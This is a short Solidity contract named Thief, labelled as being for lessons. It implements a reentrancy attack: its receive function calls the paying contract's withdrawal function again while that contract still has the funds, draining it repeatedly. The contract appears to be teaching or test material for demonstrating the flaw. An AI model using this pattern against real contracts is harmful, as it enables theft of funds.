// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {Call} from "../libraries/Call.sol";
import {Puppet} from "./Puppet.sol";

/// @title Thief
/// @notice FOR LESSONS: asks for its money, and asks again while it is being paid.
contract Thief is Puppet {
    address private _target;
    bytes private _data;

    /// @notice While it is paid by the one it robs, it asks for as much again, as long as there is as much.
    receive() external payable {
        if (msg.sender != _target || _target.balance < msg.value) return;
        (bool isPaid,) = _target.call(_data);
        isPaid; // if not, it keeps what it has
    }

    /// @notice Has itself paid, again and again.
    /// @param target Who pays.
    /// @param data The function that has it paid, and its arguments.
    function rob(address target, bytes calldata data) external byMaster {
        (_target, _data) = (target, data);
        Call.run(target, 0, data);
    }
}
